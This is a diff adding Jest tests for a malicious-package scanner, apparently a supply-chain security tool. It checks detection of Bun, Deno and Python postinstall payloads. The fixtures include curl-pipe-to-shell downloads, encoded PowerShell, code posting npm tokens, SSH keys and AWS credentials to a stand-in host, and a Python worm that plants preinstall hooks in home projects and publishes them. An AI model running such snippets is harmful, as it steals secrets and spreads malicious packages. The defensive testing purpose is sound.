@@ -1,0 +1,105 @@
+/**
+ * Bun's and Deno's own APIs read as the Node APIs they stand for (src/engine/js/models/runtimes.ts),
+ * a runner picked per runtime by a condition (both are followed), and a Python step's argument
+ * lists read as commands.
+ */
+import { analyzeSource, threatsOf } from './helpers';
+
+const install = (files: Record<string, string>, script = 'bun index.js || node index.js') =>
+  analyzeSource({
+    'package.json': JSON.stringify({
+      name: 'bun-dev-kit',
+      version: '1.1.0',
+      scripts: { postinstall: script },
+    }),
+    ...files,
+  });
+const rules = (files: Record<string, string>, script?: string) =>
+  install(files, script).evidence.map((f) => f.rule);
+
+describe('Bun and Deno APIs', () => {
+  it.each([
+    ["Bun.spawnSync(['npm', 'publish']);", 'js.exec-npm-publish'],
+    ["Bun.spawn({ cmd: ['sh', '-c', 'curl -s http://203.0.113.9/a | sh'] });", 'js.exec-download-pipe-shell'],
+    ['await Bun.$`curl -s http://203.0.113.9/a.sh | sh`;', 'js.exec-download-pipe-shell'],
+    [
+      "new Deno.Command('npm', { args: ['publish', '--access', 'public'] }).outputSync();",
+      'js.exec-npm-publish',
+    ],
+    [
+      "Deno.run({ cmd: ['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='] });",
+      'js.exec-powershell-encoded',
+    ],
+  ])('%s', (code, rule) => {
+    expect(rules({ 'index.js': code })).toContain(rule);
+  });
+  it('secrets read through Bun.env, Bun.file, Deno.env.get and Deno.readTextFile, then posted', () => {
+    for (const code of [
+      "await fetch('https://c.example-sync.dev/u', { method: 'POST', body: Bun.env.NPM_TOKEN });",
+      "const k = await Bun.file(require('os').homedir() + '/.ssh/id_rsa').text(); await fetch('https://c.example-sync.dev/u', { method: 'POST', body: k });",
+      "await fetch('https://c.example-sync.dev/u', { method: 'POST', body: Deno.env.get('AWS_SECRET_ACCESS_KEY') });",
+      "const s = await Deno.readTextFile(Deno.env.get('HOME') + '/.aws/credentials'); await fetch('https://c.example-sync.dev/u', { method: 'POST', body: s });",
+    ])
+      expect(threatsOf(install({ 'index.js': code }))).toContain('data_exfiltration');
+  });
+  it('quiet: a Bun CLI that runs git, reads its own config and writes its cache', () => {
+    const r = install(
+      {
+        'index.js': `const cfg = await Bun.file('./.devkitrc.json').json().catch(() => ({}));
+const out = Bun.spawnSync(['git', 'status', '--porcelain']).stdout.toString();
+await Bun.write('node_modules/.cache/devkit/status.txt', out);
+if (Bun.env.DEVKIT_VERBOSE) console.log(cfg, out);`,
+      },
+      'bun index.js',
+    );
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
+
+describe('a runner picked per runtime by a condition', () => {
+  it('both runners are called: the Node branch publishes', () => {
+    expect(
+      rules({
+        'index.js': `const run = typeof Bun !== 'undefined' ? (a) => Bun.spawnSync(a) : (a) => require('child_process').spawnSync(a[0], a.slice(1));
+run(['npm', 'version', 'patch']);
+run(['npm', 'publish']);`,
+      }),
+    ).toContain('js.exec-npm-publish');
+  });
+});
+
+describe('a Python step that starts a command from an argument list', () => {
+  it('subprocess.run(["npm", "publish", …]) after editing the projects under home', () => {
+    const r = install(
+      {
+        'tools/sync.py': `import json, os, subprocess, pathlib
+home = pathlib.Path.home()
+tok = os.environ.get("NPM_TOKEN")
+if tok:
+    for d in (home / "projects").glob("*/package.json"):
+        meta = json.loads(d.read_text())
+        meta.setdefault("scripts", {})["preinstall"] = "python3 tools/sync.py"
+        d.write_text(json.dumps(meta))
+        subprocess.run(["npm", "publish", "--access", "public"], cwd=d.parent, capture_output=True)
+`,
+      },
+      'python3 tools/sync.py || true',
+    );
+    expect(r.evidence.map((f) => f.rule)).toEqual(
+      expect.arrayContaining(['shell.npm-publish', 'script.foreign-file-change']),
+    );
+  });
+  it('quiet: subprocess.run(["git", "status"]) in a build helper', () => {
+    expect(
+      threatsOf(
+        install(
+          {
+            'tools/build.py':
+              'import subprocess\nsubprocess.run(["git", "describe", "--tags"], check=True)\n',
+          },
+          'python3 tools/build.py',
+        ),
+      ),
+    ).toEqual([]);
+  });
+});
